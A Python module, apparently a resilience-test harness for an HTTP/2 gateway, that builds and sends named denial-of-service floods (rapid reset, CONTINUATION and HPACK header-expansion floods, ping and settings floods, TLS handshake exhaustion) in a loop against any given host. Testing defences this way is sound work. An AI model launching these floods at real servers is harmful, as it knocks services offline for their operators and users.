"""Attacks that are known by name, each as the bytes that a client sends on one connection behind its greeting."""

import json
import select
import socket
import ssl
import sys

from . import orders
from .frames import (ACK, CONTINUATION, END_HEADERS, PREFACE, SETTINGS, Encoder, data, frame, head, ping, priority, reset,
                     setting, window_update)

#: An order's head, whose message does not come.
ORDER = head(orders.CREATE)
ECHO = head("/interop.Echo/Both")


def streams(count: int):
    return range(1, 2 * count, 2)


def rapid_reset(c: Encoder) -> bytes:
    return b"".join(c.headers(stream, ORDER) + reset(stream) for stream in streams(1500))


def rapid_reset_of_calls(c: Encoder) -> bytes:
    return b"".join(c.headers(stream, ECHO, end=True) + reset(stream) for stream in streams(1500))


def resets_of_one_stream(c: Encoder) -> bytes:
    return c.headers(1, ORDER) + reset(1) * 1500


def provoked_resets(c: Encoder) -> bytes:
    return b"".join(c.headers(stream, ECHO) + window_update(stream, (1 << 31) - 1) for stream in streams(150))


def malformed_heads(c: Encoder) -> bytes:
    return b"".join(c.headers(stream, [*ECHO, ("connection", "close")], end=True) for stream in streams(150))


def continuations(c: Encoder) -> bytes:
    return c.headers(1, ECHO, whole=False) + frame(CONTINUATION, 0, 1) * 200


def header_expansion(c: Encoder) -> bytes:
    """4,000 bytes in the dynamic table, and 12,000 references of one byte to them."""
    return c.headers(1, c.block(ECHO) + b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4000 + b"\xbe" * 12_000, end=True)


def large_heads(c: Encoder) -> bytes:
    out = b""
    for stream in streams(5):
        block = c.block(ECHO) + b"\x00\x05x-big\x7f\xa1\x9b\x01" + b"b" * 20_000
        out += c.headers(stream, block[:16_000], end=True, whole=False)
        out += frame(CONTINUATION, END_HEADERS, stream, block[16_000:])
    return out


def many_fields(c: Encoder) -> bytes:
    return b"".join(c.headers(stream, c.block(ECHO) + b"\x00\x01x\x01y" * 130, end=True) for stream in streams(5))


def pings(c: Encoder) -> bytes:
    return ping() * 500


def settings(c: Encoder) -> bytes:
    return setting() * 500


def priorities(c: Encoder) -> bytes:
    return b"".join(priority(stream) for stream in streams(500))


def unknown_frames(c: Encoder) -> bytes:
    return frame(0x42, 0, 0, b"x") * 500


def empty_frames(c: Encoder) -> bytes:
    return c.headers(1, ECHO) + data(1) * 500


def window_updates(c: Encoder) -> bytes:
    return c.headers(1, ECHO) + window_update(1, 1) * 500


def client_hello() -> bytes:
    """What a client of TLS 1.3 says first. Answering it costs the other side a key exchange and a signature."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.set_alpn_protocols(["h2"])
    sent = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname="gate.test").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return sent.read()


def told(path: str, **do) -> list[tuple[str, str]]:
    return head(path, ("x-do", json.dumps(do)))


FLOODS = {function.__name__: function for function in (
    rapid_reset, rapid_reset_of_calls, resets_of_one_stream, provoked_resets, malformed_heads, continuations,
    header_expansion, large_heads, many_fields, pings, settings, priorities, unknown_frames, empty_frames, window_updates)}


def hellos(address: tuple[str, int]):
    """Handshakes that their client has no use for."""
    hello = client_hello()
    opened = [socket.create_connection(address, timeout=2) for _ in range(20)]
    for each in opened:
        each.sendall(hello)
    for each in opened:
        # Its answer has come: the work was done.
        each.recv(1)
        each.close()


def attack(address: tuple[str, int], flood: bytes):
    with socket.create_connection(address, timeout=2) as attacker:
        attacker.sendall(flood)
        while attacker.recv(1 << 16):
            pass


def main(target: str, name: str):
    """One attack after the other, at most a hundred a second, as a process of its own, until its input ends."""
    host, port = target.rsplit(":", 1)
    address = host, int(port)
    flood = PREFACE + setting() + frame(SETTINGS, ACK, 0) + FLOODS[name](Encoder()) if name in FLOODS else None
    print("ready", flush=True)
    while not select.select([sys.stdin], [], [], 0.01)[0]:
        try:
            attack(address, flood) if flood else hellos(address)
        except OSError:
            pass


if __name__ == "__main__":
    main(*sys.argv[1:])
